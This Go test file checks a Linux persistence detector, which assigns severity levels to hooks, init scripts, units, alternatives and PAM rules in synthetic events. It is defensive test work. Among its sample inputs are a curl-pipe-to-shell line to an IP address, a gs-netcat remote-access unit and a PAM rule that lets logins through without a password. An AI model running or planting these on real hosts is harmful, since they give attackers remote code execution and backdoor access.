package persistence_test

import (
	"strings"
	"testing"

	"telltale/detect"
	"telltale/detect/detecttest"
	"telltale/detect/persistence"
)

const managed = "- package package.name=base-files\n"

// TestOwners judges by what packages own and who may change a file.
func TestOwners(t *testing.T) {
	var rooted strings.Builder
	for range 10 {
		rooted.WriteString("- hookup record.type=udev-rule process.command_line=/bin/x user.name=root file.path=/etc/udev/rules.d/x.rules file.uid=0 message=on\n")
	}
	for _, tc := range []struct {
		name, events, mechanism string
		found                   int
		level                   detect.Level
	}{
		{"a package's own", `- hookup record.type=udev-rule process.command_line=/tmp/x user.name=root file.path=/usr/lib/udev/rules.d/a.rules file.package=udev message=on`, "udev-rule", 0, 0},
		{"a package's configuration", `- hookup record.type=apt-hook process.command_line=/bin/x user.name=root file.path=/etc/apt/apt.conf.d/a file.package=apt message=on`, "apt-hook", 1, detect.Info},
		{"what is never innocent, in a package's file", `- hookup record.type=init-script process.command_line=/etc/init.d/ssh "process.script=curl -s http://203.0.113.9/x | sh" user.name=root file.path=/etc/init.d/ssh file.package=openssh-server message=on`, "init-script", 1, detect.Critical},
		{"what packages do, too", `- hookup record.type=init-script process.command_line=/etc/init.d/ssh process.script=/tmp/x user.name=root file.path=/etc/init.d/ssh file.package=openssh-server message=on`, "init-script", 0, 0},
		{"a generator of nobody", managed + `- hookup record.type=systemd-generator process.command_line=/etc/systemd/system-generators/a user.name=root file.path=/etc/systemd/system-generators/a message=on`, "systemd-generator", 1, detect.Medium},
		{"a generator where no packages are known", `- hookup record.type=systemd-generator process.command_line=/etc/systemd/system-generators/a user.name=root file.path=/etc/systemd/system-generators/a message=on`, "systemd-generator", 1, detect.Info},
		{"among a vendor's files", managed + `- hookup record.type=network-hook process.command_line=/usr/lib/NetworkManager/dispatcher.d/a user.name=root file.path=/usr/lib/NetworkManager/dispatcher.d/a message=on`, "network-hook", 1, detect.Medium},
		{"an administrator's", managed + `- hookup record.type=network-hook process.command_line=/etc/NetworkManager/dispatcher.d/a user.name=root file.path=/etc/NetworkManager/dispatcher.d/a message=on`, "network-hook", 1, detect.Info},
		{"a module that no package owns", `- hookup record.type=web-module process.command_line=/usr/lib/apache2/modules/mod_x.so user.name=root file.path=/etc/apache2/mods-enabled/x.load message=on` + "\n- unowned-file file.path=/usr/lib/apache2/modules/mod_x.so", "web-module", 1, detect.Medium},
		{"a library of names, by its name", "- unowned-file file.path=/usr/lib/x86_64-linux-gnu/libnss_x.so.2\n" + `- hookup record.type=name-service process.command_line=libnss_x.so.2 user.name=root file.path=/etc/nsswitch.conf message=on`, "name-service", 1, detect.Medium},
		{"a module with an ordinary explanation", `- hookup record.type=web-module process.command_line=/usr/lib/apache2/modules/mod_x.so user.name=root file.path=/etc/apache2/mods-enabled/x.load message=on` + "\n- unowned-file file.path=/usr/lib/apache2/modules/mod_x.so message=built", "web-module", 1, detect.Info},
		{"may be changed by everybody", `- hookup record.type=motd process.command_line=/etc/update-motd.d/a user.name=root file.path=/etc/update-motd.d/a file.mode=777 message=on`, "motd", 1, detect.Medium},
		{"belongs to another", rooted.String() + `- hookup record.type=motd process.command_line=/etc/update-motd.d/a user.name=root file.path=/etc/update-motd.d/a file.uid=1000 message=on`, "motd", 1, detect.Medium},
		{"a tree that somebody copied", `- hookup record.type=motd process.command_line=/etc/update-motd.d/a user.name=root file.path=/etc/update-motd.d/a file.uid=1000 message=on`, "motd", 1, detect.Info},
		{"an alternative in a hidden place", `- file file.path=/etc/alternatives/vi file.type=symlink file.target_path=/dev/shm/vi`, "alternative", 1, detect.High},
		{"an alternative as packages set it", `- file file.path=/etc/alternatives/vi file.type=symlink file.target_path=/usr/bin/vim.basic`, "alternative", 0, 0},
		{"an account whose services linger", `- file file.path=/var/lib/systemd/linger/amy file.type=file`, "lingering", 1, detect.Info},
		{"gsocket by a unit", `- service-unit unit.name=x.service "process.command_line=/usr/bin/gs-netcat -s x -il" file.path=/etc/systemd/system/x.service`, "remote-access", 1, detect.High},
		{"a tunnel that a package brings", `- service-unit unit.name=tailscaled.service process.command_line=/usr/sbin/tailscaled file.path=/usr/lib/systemd/system/tailscaled.service file.package=tailscale`, "remote-access", 1, detect.Info},
		{"a script of a package unpacks in /tmp", `- hookup record.type=package-script process.command_line=/var/lib/dpkg/info/a.postinst process.script=/tmp/a.run user.name=root file.path=/var/lib/dpkg/info/a.postinst message=on`, "package-script", 0, 0},
		{"a mechanism of nobody", `- hookup record.type=nothing process.command_line=/tmp/x file.path=/etc/x message=on`, "nothing", 0, 0},
	} {
		t.Run(tc.name, func(t *testing.T) {
			n := 0
			for _, f := range detecttest.Run(t, persistence.New(), detecttest.Scene(), tc.events) {
				if f.Mechanism != tc.mechanism {
					continue
				}
				if n++; f.Level != tc.level {
					t.Errorf("level %s, want %s: %s", f.Level, tc.level, f.Detail)
				}
			}
			if n != tc.found {
				t.Errorf("%d found, want %d", n, tc.found)
			}
		})
	}
}

// FuzzJudge holds whatever a file may say against the judge of each mechanism.
func FuzzJudge(f *testing.F) {
	f.Add("sshd-setting", "AuthorizedKeysFile", "/tmp/x", "/etc/ssh/sshd_config", "at each login")
	f.Add("pam-rule", "auth sufficient", "pam_permit.so", "/etc/pam.d/sshd", "at each login by sshd")
	f.Add("pam-rule", "auth", " ", "", "")
	f.Add("inetd-service", "", "", "/etc/inetd.conf", "")
	f.Add("trusted-host", "", "a login of ", "", "")
	f.Fuzz(func(t *testing.T, mechanism, setting, runs, path, on string) {
		persistence.JudgeForTest(mechanism, setting, runs, path, on)
	})
}
